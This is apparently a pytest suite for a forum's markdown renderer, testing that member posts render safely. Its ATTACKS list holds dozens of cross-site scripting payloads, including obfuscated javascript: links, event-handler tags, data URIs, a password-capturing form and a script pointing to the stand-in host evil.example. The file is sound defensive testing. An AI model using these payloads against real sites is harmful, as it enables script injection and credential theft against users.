"""What members type becomes what everybody sees: right, and never active."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest

from portal.richtext import markdown
from portal.richtext.markdown import MAX_CHARACTERS, RENDERER, render

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<form action=//evil.example><input name=password></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import '//evil.example';</style>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--<img src=--><img src=x onerror=alert(1)>//-->",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61script:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\u0001javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://a.example/1)",
    "[x](https://a.example 'a\" onmouseover=\"alert(1)')",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '!["onerror="alert(1)](https://a.example/x.png)',
    '![x](https://a.example/"onerror="alert(1))',
    "`<img src=x onerror=alert(1)>`",
    "```<img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```",
    '```html" onclick="alert(1)\nx\n```',
    "|<img src=x onerror=alert(1)>|\n|-|\n|<script>alert(1)</script>|",
    "- [x] <img src=x onerror=alert(1)>",
    'https://a.example/"onmouseover=alert(1)',
    "https://a.example/<script>alert(1)</script>",
    "www.a.example/'onmouseover='alert(1)",
    "\\<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<x onclick=alert(1)>click</x>",
    '<a href="https://a.example" style="position:fixed;inset:0">x</a>',
    "\u0000<script\u0000>alert(1)</script>",
]


class Elements(HTMLParser):
    """What a browser would find in the HTML."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def elements(source: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = Elements()
    parser.feed(render(source).html)
    return parser.found


def scheme(address: str) -> str:
    """The scheme as browsers see it: they drop control characters and spaces first."""
    match = re.match(r"[a-z][a-z0-9+.-]*(?=:)", re.sub(r"[\x00-\x20]", "", address), re.IGNORECASE)
    return match.group().lower() if match else ""


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_shown_as_text_and_never_acts(attack: str) -> None:
    for tag, attributes in elements(attack):
        assert tag in {"p", "a", "code", "pre", "table", "thead", "tbody", "tr", "th", "td", "ul", "li", "span"}
        assert set(attributes) <= {"href", "title", "rel", "class"}
        assert scheme(attributes.get("href") or "") in {"", "http", "https", "mailto"}


def test_the_wall_behind_the_parser_holds_alone(monkeypatch: pytest.MonkeyPatch) -> None:
    class LetsEverythingThrough:
        def render(self, source: str) -> str:
            return source

    monkeypatch.setattr(markdown, "_parser", lambda **_: LetsEverythingThrough())
    for attack in ATTACKS:
        for tag, attributes in elements(attack):
            assert tag in markdown.TAGS
            assert not [name for name in attributes if name.startswith("on") or name == "style"]
            assert scheme(attributes.get("href") or "") in {"", "http", "https", "mailto"}


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        (
            "Hello *world*, **strong** and `code`",
            "<p>Hello <em>world</em>, <strong>strong</strong> and <code>code</code></p>",
        ),
        ("one\ntwo\n\nthree", "<p>one\ntwo</p>\n<p>three</p>"),
        ("two spaces  \nbreak", "<p>two spaces<br>\nbreak</p>"),
        ("> quoted", "<blockquote>\n<p>quoted</p>\n</blockquote>"),
        ("1. a\n2. b", "<ol>\n<li>a</li>\n<li>b</li>\n</ol>"),
        ("7. a", '<ol start="7">\n<li>a</li>\n</ol>'),
        ("- a\n  - b", "<ul>\n<li>a\n<ul>\n<li>b</li>\n</ul>\n</li>\n</ul>"),
        ("```\na < b\n```", "<pre><code>a &lt; b\n</code></pre>"),
        ("a\n\n---\n\nb", "<p>a</p>\n<hr>\n<p>b</p>"),
        ("\\*not\\*", "<p>*not*</p>"),
        ("AT&amp;T &copy;", "<p>AT&amp;T ©</p>"),
        ("~~gone~~", "<p><s>gone</s></p>"),
    ],
)
def test_common_markdown_reads_as_people_expect(source: str, expected: str) -> None:
    assert render(source).html.strip() == expected


def test_headings_stand_below_those_of_the_page() -> None:
    assert render("# Aim").html.strip() == "<h3>Aim</h3>"
    assert render("###### Detail").html.strip() == "<h6>Detail</h6>"


def test_tables_keep_their_alignment_without_style_attributes() -> None:
    html = render("| a | b |\n|:-:|--:|\n| 1 | 2 |").html
    assert '<td class="align-center">1</td>' in html
    assert '<td class="align-right">2</td>' in html
    assert "style" not in html


def test_task_lists_show_what_is_done() -> None:
    html = render("- [x] ask the ward\n- [ ] write it up").html
    assert '<span class="task-box">☑</span> ask the ward' in html
    assert '<span class="task-box">☐</span> write it up' in html


@pytest.mark.parametrize(
    ("source", "address"),
    [
        ("see https://le.ac.uk/empathy.", "https://le.ac.uk/empathy"),
        ("see www.le.ac.uk.", "https://www.le.ac.uk"),
        ("write to ana@example.org", "mailto:ana@example.org"),
        ('[here](https://a.example/x "t")', "https://a.example/x"),
        ("[here](/boards/threads/1)", "/boards/threads/1"),
        ("![A poster](https://a.example/p.png)", "https://a.example/p.png"),
    ],
)
def test_links_go_where_they_say_and_carry_no_trust(source: str, address: str) -> None:
    [link] = [attributes for tag, attributes in elements(source) if tag == "a"]
    assert link["href"] == address
    assert link["rel"] == "nofollow noopener ugc"


def test_a_missing_space_after_a_full_stop_makes_no_link() -> None:
    assert "<a" not in render("We tried this.It worked.").html


def test_pictures_elsewhere_are_linked_and_never_loaded() -> None:
    assert "<img" not in render("![A poster](https://a.example/p.png)").html


@pytest.mark.parametrize("script", ["سلام، این یک آزمون است", "¿Qué tal, año?", "Ẹ kú àárọ̀", "می‌خواهم"])
def test_every_script_comes_through_unchanged(script: str) -> None:
    assert render(script).html.strip() == f"<p>{script}</p>"


def test_the_version_of_the_renderer_is_told() -> None:
    assert render("x").renderer == RENDERER


def test_text_that_is_too_long_is_refused() -> None:
    render("a" * MAX_CHARACTERS)
    with pytest.raises(ValueError, match="50000 characters"):
        render("a" * (MAX_CHARACTERS + 1))


@pytest.mark.parametrize(
    "knot", ["[", "![", "](", "://", "www.", "a@", ">", "*a ", "**x_", "`a``", "<", "- ", "&", "|"]
)
def test_no_text_keeps_the_server_busy(knot: str) -> None:
    started = time.process_time()
    render((knot * MAX_CHARACTERS)[:MAX_CHARACTERS])
    assert time.process_time() - started < 3, "one post must not hold a server process"
